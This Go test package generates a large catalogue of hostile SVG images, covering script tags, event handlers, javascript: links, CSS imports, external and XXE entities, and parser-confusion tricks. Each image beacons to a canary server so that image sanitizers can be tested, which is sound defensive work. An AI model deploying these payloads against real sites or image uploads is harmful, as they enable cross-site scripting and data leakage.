// Package imagestest provides SVG images that try to run or load something, for the tests of images and their delivery.
package imagestest

import (
	"maps"
	"strconv"
	"strings"
)

const (
	open  = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 100 100" `
	shape = `<rect id="r" width="100" height="100" fill="red"/>`
)

// Hostile returns a set of SVG images, keyed by what each one tries. If an image succeeds in running or loading
// something, it requests its number from canary, the URL of a server.
func Hostile(canary string) map[string]string {
	set := map[string]string{}
	for name, source := range all() {
		beacon := canary + "/" + strconv.Itoa(len(set))
		fetch := "new Image().src='" + beacon + "/run'"
		set[name] = strings.NewReplacer("RUN", fetch, "URL", beacon, "HOST", strings.TrimPrefix(beacon, "http:")).Replace(source)
	}
	return set
}

func all() map[string]string {
	set := map[string]string{}
	for _, part := range []map[string]string{scripts(), events(), loads(), styles(), parsers()} {
		maps.Copy(set, part)
	}
	return set
}

// scripts returns images that run code through an element.
func scripts() map[string]string {
	return map[string]string{
		"script":                     open + `>` + shape + `<script>RUN</script></svg>`,
		"script in CDATA":            open + `><script><![CDATA[RUN]]></script></svg>`,
		"script with a type":         open + `><script type="text/ecmascript">RUN</script></svg>`,
		"loaded script":              open + `><script href="URL"/></svg>`,
		"script through xlink":       open + `><script xlink:href="URL"/></svg>`,
		"script with another prefix": `<x:svg xmlns:x="http://www.w3.org/2000/svg"><x:script>RUN</x:script></x:svg>`,
		"XHTML script":               open + `xmlns:h="http://www.w3.org/1999/xhtml"><h:script>RUN</h:script></svg>`,
		"script in a symbol":         open + `><symbol id="s"><script>RUN</script></symbol><use href="#s"/></svg>`,
		"uppercase script":           open + `><SCRIPT>RUN</SCRIPT></svg>`,
		"script through a module":    open + `><script type="module">import 'URL'</script></svg>`,
		"page in a foreignObject": open + `><foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml"><img src="URL" ` +
			`onerror="RUN"/><script>RUN</script></body></foreignObject></svg>`,
		"frame in a foreignObject": open + `><foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="URL" ` +
			`srcdoc="&lt;script&gt;RUN&lt;/script&gt;"/></foreignObject></svg>`,
		"XHTML frame":   open + `><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:RUN"/></svg>`,
		"XHTML object":  open + `><object xmlns="http://www.w3.org/1999/xhtml" data="URL"/></svg>`,
		"XHTML embed":   open + `><embed xmlns="http://www.w3.org/1999/xhtml" src="URL"/></svg>`,
		"XHTML image":   open + `><img xmlns="http://www.w3.org/1999/xhtml" src="URL" onerror="RUN"/></svg>`,
		"XHTML link":    open + `><link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="URL"/></svg>`,
		"XHTML base":    open + `><base xmlns="http://www.w3.org/1999/xhtml" href="URL"/></svg>`,
		"XHTML refresh": open + `><meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=URL"/></svg>`,
		"XHTML form": open + `><form xmlns="http://www.w3.org/1999/xhtml" action="URL"><input autofocus="" ` +
			`onfocus="RUN"/></form></svg>`,
		"XHTML video": open + `><video xmlns="http://www.w3.org/1999/xhtml" src="URL" poster="URL" autoplay=""/></svg>`,
		"handler": open + `xmlns:ev="http://www.w3.org/2001/xml-events"><handler type="text/javascript" ` +
			`ev:event="load">RUN</handler></svg>`,
	}
}

// events returns images that run code through an attribute.
func events() map[string]string {
	return map[string]string{
		"onload":                  open + `onload="RUN">` + shape + `</svg>`,
		"uppercase onload":        open + `ONLOAD="RUN">` + shape + `</svg>`,
		"onload on an element":    open + `><g onload="RUN">` + shape + `</g></svg>`,
		"onerror on an image":     open + `><image href="URL" onerror="RUN"/></svg>`,
		"onbegin on an animation": open + `><animate attributeName="x" dur="1s" onbegin="RUN"/></svg>`,
		"onend on an animation":   open + `>` + shape + `<set attributeName="x" to="1" dur="0.1s" onend="RUN"/></svg>`,
		"onfocus":                 open + `><g tabindex="0" onfocusin="RUN" autofocus="">` + shape + `</g></svg>`,
		"onload with a prefix":    open + `xmlns:s="http://www.w3.org/2000/svg" s:onload="RUN" xlink:onload="RUN"/>`,
		"animated link":           open + `><a><animate attributeName="href" values="javascript:RUN"/><text y="50">x</text></a></svg>`,
		"animated xlink": open + `><a><animate attributeName="xlink:href" from="javascript:RUN" to="&amp;" begin="0s"/><text ` +
			`y="50">x</text></a></svg>`,
		"set to a script":     open + `><a id="a"><text y="50">x</text></a><set href="#a" attributeName="href" to="javascript:RUN"/></svg>`,
		"link to a script":    open + `><a href="javascript:RUN"><text y="50">x</text></a></svg>`,
		"link with an escape": open + `><a xlink:href="java&#x0A;script:RUN"><text y="50">x</text></a></svg>`,
		"use of a script":     open + `><use href="javascript:RUN"/></svg>`,
		"use of data": open + `><use href="data:image/svg+xml,&lt;svg xmlns='http://www.w3.org/2000/svg' id='x' ` +
			`onload='RUN'/&gt;#x"/></svg>`,
		"motion along a script": open + `>` + shape + `<animateMotion><mpath xlink:href="URL#p"/></animateMotion></svg>`,
		"discard of XML events": open + `xmlns:ev="http://www.w3.org/2001/xml-events"><listener xmlns="http://www.w3.org/2001/xml-events" ` +
			`event="load" handler="URL#h"/></svg>`,
		"animation of an event": open + `>` + shape + `<animate href="#r" attributeName="onclick" values="RUN" begin="0s"/></svg>`,
		"animated image URL":    open + `><image id="i" width="9" height="9"/><set href="#i" attributeName="href" to="URL"/></svg>`,
	}
}

// loads returns images that fetch something without a script.
func loads() map[string]string {
	return map[string]string{
		"image":                  open + `><image width="9" height="9" href="URL"/></svg>`,
		"image through xlink":    open + `><image width="9" height="9" xlink:href="URL"/></svg>`,
		"image without a scheme": open + `><image width="9" height="9" href="HOST"/></svg>`,
		"image in an image": open + `><image width="9" height="9" href="data:image/svg+xml,&lt;svg ` +
			`xmlns='http://www.w3.org/2000/svg'&gt;&lt;image href='URL'/&gt;&lt;/svg&gt;"/></svg>`,
		"feImage": open + `><filter id="f"><feImage href="URL"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>`,
		"feImage through xlink": open + `><filter id="f"><feImage xlink:href="URL"/></filter><rect width="9" height="9" ` +
			`filter="url(#f)"/></svg>`,
		"use from another file":       open + `><use href="URL#x"/></svg>`,
		"use through xlink":           open + `><use xlink:href="URL#x"/></svg>`,
		"gradient from another file":  open + `><linearGradient id="g" href="URL#g"/><rect width="9" height="9" fill="url(#g)"/></svg>`,
		"pattern from another file":   open + `><pattern id="p" xlink:href="URL#p"/><rect width="9" height="9" fill="url(#p)"/></svg>`,
		"text along another file":     open + `><text><textPath href="URL#p">x</textPath></text></svg>`,
		"fill from another file":      open + `><rect width="9" height="9" fill="url(URL#p)"/></svg>`,
		"filter from another file":    open + `><rect width="9" height="9" filter="url('URL#p')"/></svg>`,
		"mask from another file":      open + `><rect width="9" height="9" mask="url(&quot;URL#p&quot;)"/></svg>`,
		"clip path from another file": open + `><rect width="9" height="9" clip-path="URL( URL#p )"/></svg>`,
		"marker from another file":    open + `><path d="M0 0L9 9" stroke="red" marker-end="url(URL#p)"/></svg>`,
		"cursor":                      open + `><rect width="100" height="100" cursor="url(URL), auto"/></svg>`,
		"fill with an escape":         open + `><rect width="9" height="9" fill="u\72l(URL#p)"/></svg>`,
		"fill after a comment":        open + `><rect width="9" height="9" fill="/**/url(URL#p)"/></svg>`,
		"two fills":                   open + `><rect width="9" height="9" fill="url(#a) url(URL)"/></svg>`,
		"base URL":                    open + `xml:base="URL/"><image width="9" height="9" href="x.png"/><use href="y.svg#z"/></svg>`,
		"color profile": open + `><color-profile name="c" xlink:href="URL"/><rect width="9" height="9" fill="red icc-color(c, ` +
			`1)"/></svg>`,
		"font from another file": open + `><font-face font-family="f"><font-face-src><font-face-uri ` +
			`xlink:href="URL"/></font-face-src></font-face><text font-family="f">x</text></svg>`,
		"SVG 2 audio": open + `><audio href="URL" autoplay=""/><video href="URL"/><iframe href="URL"/></svg>`,
	}
}

// styles returns images that load something through CSS.
func styles() map[string]string {
	return map[string]string{
		"style with an import":        open + `><style>@import "URL";</style></svg>`,
		"style with an import by url": open + `><style>@import url(URL);rect{fill:red}</style></svg>`,
		"style with an escape":        open + `><style>@\69mport "URL";</style></svg>`,
		"style with a hidden import":  open + `><style>/**/@import/**/"URL";</style></svg>`,
		"style with a font": open + `><style>@font-face{font-family:f;src:url(URL)}text{font-family:f}</style><text ` +
			`y="50">x</text></svg>`,
		"style with a background":     open + `style="background:url(URL)"><style>svg{background-image:url(URL)}</style></svg>`,
		"style with image-set":        open + `><style>svg{background:image-set("URL" 1x)}</style></svg>`,
		"style with a list":           open + `><style>text{display:list-item;list-style:url(URL)}</style><text y="50">x</text></svg>`,
		"style with content":          open + `><style>text::before{content:url(URL)}</style><text y="50">x</text></svg>`,
		"style with a variable":       open + `><style>svg{--a:url(URL);background:var(--a)}</style></svg>`,
		"style with a namespace":      open + `><style>@namespace "URL";@charset "x";</style></svg>`,
		"style in a media query":      open + `><style>@media all{rect{fill:url(URL#a)}}</style>` + shape + `</svg>`,
		"nested style":                open + `><style>svg{fill:red;rect{fill:url(URL#a)}}</style>` + shape + `</svg>`,
		"style with a loose string":   open + `><style>rect{font-family:'}a{fill:red}';fill:url(URL#a)}</style>` + shape + `</svg>`,
		"style with a filter":         open + `><rect width="9" height="9" style="filter:url(URL#f)"/></svg>`,
		"style with a mask":           open + `><rect width="9" height="9" style="mask-image:url(URL);-webkit-mask:url(URL)"/></svg>`,
		"style with an old binding":   open + `><rect width="9" height="9" style="-moz-binding:url(URL);behavior:url(URL)"/></svg>`,
		"style instruction":           `<?xml-stylesheet type="text/css" href="URL"?>` + open + `/>`,
		"style instruction with XSLT": `<?xml-stylesheet type="text/xsl" href="URL"?>` + open + `/>`,
		"style through a link":        open + `><link rel="stylesheet" href="URL"/></svg>`,
	}
}

// parsers returns files that different parsers read differently.
func parsers() map[string]string {
	return map[string]string{
		"entity":                      `<!DOCTYPE svg [<!ENTITY x "&#60;script&#62;RUN&#60;/script&#62;">]>` + open + `>&x;</svg>`,
		"external entity":             `<!DOCTYPE svg [<!ENTITY x SYSTEM "URL">]>` + open + `>&x;</svg>`,
		"parameter entity":            `<!DOCTYPE svg [<!ENTITY % x SYSTEM "URL"> %x;]>` + open + `/>`,
		"doctype from another file":   `<!DOCTYPE svg SYSTEM "URL">` + open + `>` + shape + `</svg>`,
		"attribute through a doctype": `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "RUN">]>` + open + `/>`,
		"script in a style":           open + `><style><![CDATA[</style><script>RUN</script><style>]]></style></svg>`,
		"script in an escaped style":  open + `><style>&lt;/style&gt;&lt;script&gt;RUN&lt;/script&gt;</style></svg>`,
		"script in a title":           open + `><title>&lt;/title&gt;&lt;script&gt;RUN&lt;/script&gt;</title></svg>`,
		"page in a title":             open + `><title><body xmlns="http://www.w3.org/1999/xhtml" onload="RUN"/></title></svg>`,
		"page in a desc":              open + `><desc><script xmlns="http://www.w3.org/1999/xhtml">RUN</script></desc></svg>`,
		"script in a comment":         open + `><!--><script>RUN</script>--></svg>`,
		"script after a comment":      open + `><!-- --!><script>RUN</script> --></svg>`,
		"script in CDATA of HTML":     open + `><![CDATA[><script>RUN</script>]]></svg>`,
		"script in text":              open + `><text>&lt;script&gt;RUN&lt;/script&gt;</text></svg>`,
		"script in an attribute":      open + `><rect class="&quot;&gt;&lt;script&gt;RUN&lt;/script&gt;"/></svg>`,
		"instruction with a script":   open + `><?x <script>RUN</script>?></svg>`,
		"script after the end":        open + `/><script xmlns="http://www.w3.org/2000/svg">RUN</script>`,
		"page that contains an SVG":   `<html xmlns="http://www.w3.org/1999/xhtml"><script>RUN</script>` + open + `/></html>`,
		"another namespace inside":    open + `><g xmlns="http://www.w3.org/1999/xhtml"><script>RUN</script></g></svg>`,
		"own namespace declared": open + `xmlns:xml="http://www.w3.org/XML/1998/namespace"><x:script ` +
			`xmlns:x="http://www.w3.org/2000/svg">RUN</x:script></svg>`,
		"script in UTF-7": `<?xml version="1.0" encoding="UTF-7"?>` + open + `>+ADw-script+AD4-RUN+ADw-/script+AD4-</svg>`,
		"MathML": open + `><math xmlns="http://www.w3.org/1998/Math/MathML"><maction actiontype="statusline" ` +
			`xlink:href="javascript:RUN"/></math></svg>`,
		"XInclude": open + `xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="URL" parse="text"/></svg>`,
	}
}
